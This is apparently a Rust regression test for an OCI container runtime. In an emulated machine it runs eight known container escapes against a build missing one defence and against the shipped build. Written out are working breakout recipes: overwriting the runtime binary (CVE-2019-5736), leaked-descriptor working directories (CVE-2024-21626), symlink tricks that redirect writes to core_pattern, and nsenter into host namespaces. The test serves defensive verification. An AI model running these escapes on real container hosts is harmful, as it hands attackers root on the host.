//! Known breakouts: each attack succeeds against a build that lacks the one defence, and fails against
//! what ships, in the same machine.
//!
//! The race of a symlink against a volume's target is a test of `runtime::container::rootfs`: it needs
//! ten thousand tries, not a machine.

use anyhow::{Context, Result, ensure};
use qemu_tests::artefacts::Test;
use qemu_tests::fixtures::runtimes::{self, Bundle, Runtime};
use qemu_tests::image::target;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

/// What ships, and the build that lacks what `SKEG_WITHOUT` names.
const BUILDS: [Runtime; 2] = [("real", "/usr/bin/skeg-oci"), ("mutant", "/opt/skeg-oci")];

/// Said by an attack's script when it has got what it wanted.
const OUT: &str = "@BROKEN-OUT";

/// One breakout: the defence against it, the container, and the host's part of it.
struct Breakout {
    defence: &'static str,
    name: &'static str,
    config: Value,
    script: String,
}

#[test]
fn each_breakout_works_without_its_defence_and_fails_with_it() -> Result<()> {
    let test = Test::named("oci-breakouts")?;
    let folder = tempfile::tempdir()?;
    let (mutant, attack) = (mutant(folder.path())?, attack(folder.path())?);
    let more = [
        ("opt/skeg-oci", mutant.as_path()),
        ("usr/bin/attack", attack.as_path()),
    ];
    let breakouts = breakouts();
    let bundles: Vec<Bundle> = breakouts.iter().map(bundle).collect();
    let image = runtimes::image("oci-breakouts", &BUILDS, &more, &bundles)?;
    let machine = test.boot(&image).memory(768).emulated().start()?;
    machine.console().wait("@END", Duration::from_secs(600))?;
    let answers = runtimes::answers(&machine.console().lines())?;
    let mut wrong = Vec::new();
    for (number, breakout) in breakouts.iter().enumerate() {
        for (build, escapes) in [("mutant", true), ("real", false)] {
            let answer = answers.get(&(number, build.to_owned()));
            let said = &answer
                .with_context(|| format!("{}: no answer", breakout.name))?
                .output;
            println!("{}: {build}: {said:?}", breakout.name);
            // The real one must have run the attack, not have failed before it.
            if said.contains(OUT) != escapes || !said.contains("@TRIED") {
                wrong.push(format!("{} {build}: {said:?}", breakout.name));
            }
        }
    }
    ensure!(wrong.is_empty(), "not as expected: {wrong:#?}");
    machine.console().check_for_oops()?;
    test.passed();
    Ok(())
}

/// `target/debug/skeg-mutant`, without what only a debugger reads.
fn mutant(folder: &Path) -> Result<PathBuf> {
    let built = target().join("debug/skeg-mutant");
    ensure!(
        built.is_file(),
        "no {}: build it with `cargo xtask test oci`",
        built.display()
    );
    let stripped = folder.join("skeg-mutant");
    let strip = Command::new("strip")
        .arg("-o")
        .arg(&stripped)
        .arg(&built)
        .status();
    ensure!(strip.context("run strip")?.success(), "strip failed");
    Ok(stripped)
}

fn attack(folder: &Path) -> Result<PathBuf> {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/oci/attack.c");
    let program = folder.join("attack");
    let mut cc = Command::new("cc");
    cc.args(["-static", "-O1", "-s", "-o"])
        .arg(&program)
        .arg(&source);
    ensure!(cc.status().context("run cc")?.success(), "cc failed");
    Ok(program)
}

fn bundle(breakout: &Breakout) -> Bundle {
    let script = format!(
        "export SKEG_WITHOUT={}\n{}",
        breakout.defence, breakout.script
    );
    Bundle {
        config: breakout.config.clone(),
        script,
    }
}

/// The base configuration with a program, more mounts, and changes by pointer.
fn config(program: &str, mounts: Value, changes: &[(&str, Value)]) -> Value {
    let base = include_str!("oci/base.json");
    let mut config: Value = serde_json::from_str(base).unwrap_or_default();
    config["process"]["args"] = json!(["sh", "-c", program]);
    config["root"]["readonly"] = false.into();
    if let (Some(all), Value::Array(mounts)) = (config["mounts"].as_array_mut(), mounts) {
        all.extend(mounts);
    }
    for (pointer, value) in changes {
        let (parent, key) = pointer.rsplit_once('/').unwrap_or_default();
        if let Some(parent) = config.pointer_mut(parent) {
            parent[key] = value.clone();
        }
    }
    config
}

fn bind(source: &str, destination: &str) -> Value {
    json!({"destination": destination, "type": "bind", "source": source, "options": ["bind"]})
}

/// Whether the host's core_pattern, a way to run a program as the host's root, has changed.
const CORE_PATTERN: &str = "grep -qx evil /proc/sys/kernel/core_pattern && echo @BROKEN-OUT; \
    echo core > /proc/sys/kernel/core_pattern";

fn breakouts() -> Vec<Breakout> {
    let all = |names: &[&str]| json!({"bounding": names, "effective": names, "permitted": names});
    let shocker = Breakout {
        defence: "capabilities",
        name: "Shocker: a file of the host by its handle",
        config: config("attack open $(cat /rows/shared/handle) /tmp/a; echo @TRIED",
            json!([bind("/rows/data", "/tmp/a"), bind("/rows/shared", "/rows/shared"), bind("/usr/bin/attack", "/bin/attack")]), &[]),
        script: "attack make /secret > /rows/shared/handle; $RT run -b . c | sed 's/the host.s secret/@BROKEN-OUT/'".into(),
    };
    let hold = "cd /rows/shared; while :; do for p in /proc/[0-9]*; do \
        case $(readlink $p/exe) in *skeg*|/) exec 9< $p/exe && break 2;; esac; done; done; > held; \
        for i in $(seq 40); do usleep 50000; (echo evil > /proc/self/fd/9) 2> /dev/null && break; done; > tried; sleep 60";
    let overwrite = Breakout {
        defence: "seal",
        name: "CVE-2019-5736: the runtime's program is overwritten by a neighbour of a created container",
        config: config(hold, json!([bind("/rows/shared", "/rows/shared")]),
            &[("/process/capabilities", all(&["CAP_SYS_PTRACE"]))]),
        script: r#"rm -f /rows/shared/held /rows/shared/tried; cp $p /keep; $RT run -d -b . c > /dev/null 2>&1 < /dev/null
            pid=$($RT state c | tr -d ' ,' | grep '^"pid"' | cut -d: -f2)
            sed 's,{"type":"pid"},{"type":"pid"\,"path":"/proc/'$pid'/ns/pid"},; s,"/row","/row2",' config.json > two.json
            $RT create -b . -f two.json d > /dev/null 2>&1 < /dev/null
            come() { for i in $(seq 100); do [ -e /rows/shared/$1 ] && break; usleep 50000; done; }
            come held; $RT delete -f d; come tried; [ -e /rows/shared/held ] && echo @TRIED
            cmp -s $p /keep || echo @BROKEN-OUT; rm $p; mv /keep $p"#.into(),
    };
    let directory = Breakout {
        defence: "descriptors",
        name: "CVE-2024-21626: a working directory of the host by a leaked descriptor",
        config: config("cat ../../../../../../secret; true", json!([]), &[("/process/cwd", "/proc/self/fd/N".into())]),
        script: "for n in $(seq 3 16); do sed s,fd/N,fd/$n, config.json > one.json; \
            timeout 10 $RT run -b . -f one.json c 2> /dev/null; $RT delete -f c 2> /dev/null; done | sed 's/the host.s secret/@BROKEN-OUT/' | sort -u; echo @TRIED".into(),
    };
    let swap =
        "rm -f /rows/shared/dev/null; ln -s /proc/sys/kernel/core_pattern /rows/shared/dev/null";
    let masked = Breakout {
        defence: "null",
        name: "CVE-2025-31133: a masked path that /dev/null's replacement makes writable",
        config: config(
            "echo evil > /proc/sys/kernel/core_pattern; echo @TRIED",
            json!([bind("/rows/shared/dev", "/dev")]),
            &[
                ("/linux/readonlyPaths", json!([])),
                (
                    "/linux/maskedPaths",
                    json!(["/proc/sys/kernel/core_pattern"]),
                ),
                (
                    "/hooks",
                    json!({"createRuntime": [{"path": "/bin/busybox", "args": ["sh", "-c", swap]}]}),
                ),
            ],
        ),
        script: format!(
            "rm -rf /rows/shared/dev; mkdir -p /rows/shared/dev; $RT run -b . c; {CORE_PATTERN}"
        ),
    };
    let console = Breakout {
        defence: "console",
        name: "CVE-2025-52565: a file of procfs in place of the console",
        config: config(
            "echo evil > /dev/console; echo @TRIED",
            json!([
                bind("/rows/shared/dev", "/dev"),
                {"destination": "/dev/real", "type": "devpts", "source": "devpts", "options": ["newinstance", "ptmxmode=0666", "mode=0620"]},
            ]),
            &[("/process/terminal", true.into())],
        ),
        script: format!(
            "rm -rf /rows/shared/dev; mkdir -p /rows/shared/dev/pts; ln -s ../real/ptmx /rows/shared/dev/pts/ptmx; \
            ln -s /proc/sys/kernel/core_pattern /rows/shared/dev/pts/0; $RT run -b . c; {CORE_PATTERN}"
        ),
    };
    let redirected = Breakout {
        defence: "procfs",
        name: "CVE-2025-52881: a write to procfs that a false procfs redirects",
        config: config(
            "echo @TRIED",
            json!([]),
            &[
                // Over a real one nothing may be mounted at all.
                (
                    "/mounts",
                    json!([
                        {"destination": "/p", "type": "proc", "source": "proc"},
                        bind("/rows/shared/proc", "/proc"),
                        {"destination": "/dev", "type": "tmpfs", "source": "tmpfs"},
                    ]),
                ),
                ("/linux/sysctl", json!({"kernel.domainname": "evil"})),
                ("/linux/maskedPaths", json!([])),
                ("/linux/readonlyPaths", json!([])),
            ],
        ),
        script: format!(
            "rm -rf /rows/shared/proc; mkdir -p /rows/shared/proc/sys/kernel; \
            ln -s /p/sys/kernel/core_pattern /rows/shared/proc/sys/kernel/domainname; $RT run -b . c; {CORE_PATTERN}"
        ),
    };
    let unmounted = Breakout {
        defence: "detach",
        name: "CAP_SYS_ADMIN: the root unmounted, and the host's beneath",
        config: config(
            "nsenter --mount=/proc/1/ns/mnt /bin/busybox cat /secret; umount -l /; \
            nsenter --mount=/proc/1/ns/mnt /bin/busybox cat /secret; echo @TRIED",
            json!([]),
            &[(
                "/process/capabilities",
                all(&["CAP_SYS_ADMIN", "CAP_SYS_CHROOT", "CAP_SYS_PTRACE"]),
            )],
        ),
        script: "$RT run -b . c 2> /dev/null | sed 's/the host.s secret/@BROKEN-OUT/'".into(),
    };
    let inside = Breakout {
        defence: "in-root",
        name: "a volume's target through a symlink that leads out",
        config: config("echo @TRIED", json!([bind("/rows/shared", "/rows/shared"), bind("/rows/data/file", "/rows/shared/link/made")]), &[]),
        script: "rm -rf /outside /rows/shared/link; mkdir /outside; ln -s /outside /rows/shared/link; \
            $RT run -b . c 2>/dev/null || echo @TRIED; ls -A /outside | sed 's/made/@BROKEN-OUT/'; rm -rf /rows/shared/link /outside".into(),
    };
    vec![
        shocker, overwrite, directory, masked, console, redirected, unmounted, inside,
    ]
}
